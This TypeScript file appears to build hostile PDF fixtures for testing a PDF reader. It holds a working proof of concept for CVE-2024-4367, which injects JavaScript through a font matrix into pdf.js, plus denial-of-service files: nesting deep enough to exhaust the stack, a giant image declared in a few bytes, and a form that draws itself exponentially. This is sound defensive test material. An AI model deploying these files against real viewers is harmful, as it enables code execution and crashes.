/** PDFs made to hurt whoever reads or draws them. */

/** A page with the word *Avtal*, with what its resources and its content add; objects from 6 on are free. */
function pdfWith({
  resources = '',
  content = '',
  objects = [],
  font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
}: {
  resources?: string;
  content?: string;
  objects?: readonly string[];
  font?: string;
}): Buffer {
  const drawn = `BT /F1 12 Tf 72 770 Td (Avtal) Tj ET\n${content}`;
  const all = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
    font,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> ${resources} >> /Contents 5 0 R >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    ...objects,
  ];
  return assembled(all);
}

/** A PDF of these objects, numbered from 1; the first is the catalogue. */
function assembled(all: readonly string[]): Buffer {
  let pdf = '%PDF-1.7\n';
  const offsets = all.map((object, index) => {
    const at = pdf.length;
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const start = pdf.length;
  pdf += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${offsets.join('')}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/**
 * A font whose matrix holds code, as in CVE-2024-4367: whoever makes a program of it to draw the
 * letter runs it, and `globalThis.taken` is set. pdf.js 4.1.392 does.
 */
export function pdfWithCodeInFont(): Buffer {
  const { header, glyphs } = type1Font();
  return pdfWith({
    font: '<< /Type /Font /Subtype /Type1 /BaseFont /Egen /FontDescriptor 6 0 R /FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.taken = true; //)] /Encoding /WinAnsiEncoding /FirstChar 65 /LastChar 65 /Widths [500] >>',
    objects: [
      '<< /Type /FontDescriptor /FontName /Egen /Flags 32 /FontBBox [0 0 500 500] /ItalicAngle 0 /Ascent 500 /Descent 0 /CapHeight 500 /StemV 80 /FontFile 7 0 R >>',
      `<< /Length ${header.length + glyphs.length} /Length1 ${header.length} /Length2 ${glyphs.length} /Length3 0 >>\nstream\n${header}${glyphs}\nendstream`,
    ],
  });
}

/** A Type 1 font with the letter A and no matrix of its own, each byte as a character. */
function type1Font(): { header: string; glyphs: string } {
  // Its width, then a triangle.
  const outline = [139, 248, 136, 13, 189, 189, 21, 239, 139, 5, 139, 239, 5, 9, 14];
  const drawn = `${outline.length} RD ${String.fromCharCode(...outline)} ND`;
  const plain = `skip/Private 8 dict dup begin /lenIV -1 def /CharStrings 2 dict dup begin\n/.notdef ${drawn}\n/A ${drawn}\nend end\n`;
  // Adobe Type 1 Font Format, chapter 7: eexec encryption.
  let key = 55_665;
  const glyphs = Array.from(plain, (character) => {
    const cipher = character.charCodeAt(0) ^ (key >> 8);
    key = ((cipher + key) * 52_845 + 22_719) & 0xff_ff;
    return String.fromCharCode(cipher);
  }).join('');
  const header =
    '%!PS-AdobeFont-1.0: Egen\n/FontName /Egen def\n/Encoding StandardEncoding def\ncurrentfile eexec\n';
  return { header, glyphs };
}

/** How deep objects may lie in each other for the reader, and no more for the view, whose stack is smaller. */
const TOO_DEEP_TO_DRAW = 4_500;

/**
 * Four pages that can all be read, each with the lines it is given: the second cannot be drawn (its
 * dashes are no list), and the third has objects so deep in each other that it cannot be had at all
 * where the stack is small.
 */
export function pdfWithPagesNotDrawn(lines: readonly string[]): Buffer {
  const deep = `${'['.repeat(TOO_DEEP_TO_DRAW)}${']'.repeat(TOO_DEEP_TO_DRAW)}`;
  const added = [
    { content: '', resources: '' },
    { content: '/Dashed gs', resources: '/ExtGState << /Dashed << /D [5 0] >> >>' },
    { content: '', resources: `/Deep ${deep}` },
    { content: '', resources: '' },
  ];
  const first = 4;
  const kids = added.map((_, index) => `${first + 2 * index} 0 R`).join(' ');
  return assembled([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${added.length} /Kids [${kids}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...added.flatMap(({ content, resources }, index) => {
      const words = lines
        .map((line, row) => `1 0 0 1 72 ${770 - 24 * row} Tm (${index + 1}. ${line}) Tj`)
        .join('\n');
      const drawn = `BT /F1 12 Tf\n${words}\nET\n${content}`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> ${resources} >> /Contents ${first + 2 * index + 1} 0 R >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ];
    }),
  ]);
}

/** Arrays in arrays, so many that reading them one within the other uses up a stack. */
export function pdfNestedDeep(depth = 100_000): Buffer {
  return pdfWith({ resources: `/Deep ${'['.repeat(depth)}${']'.repeat(depth)}` });
}

/** A picture of 60 000 times 60 000 dots in a few bytes. */
export function pdfWithHugePicture(): Buffer {
  return pdfWith({
    resources: '/XObject << /X 6 0 R >>',
    content: 'q 500 0 0 500 40 40 cm /X Do Q',
    objects: [
      '<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 4 >>\nstream\nabcd\nendstream',
    ],
  });
}

/** A form that draws itself twice, and each of those again: two to the thirtieth. */
export function pdfThatDrawsItself(): Buffer {
  const forms = Array.from({ length: 30 }, (_, at) => {
    const draws = '/N Do /N Do';
    const next = at === 29 ? '' : `/Resources << /XObject << /N ${at + 7} 0 R >> >>`;
    return `<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] ${next} /Length ${draws.length} >>\nstream\n${draws}\nendstream`;
  });
  return pdfWith({
    resources: '/XObject << /N 6 0 R >>',
    content: '/N Do',
    objects: forms,
  });
}
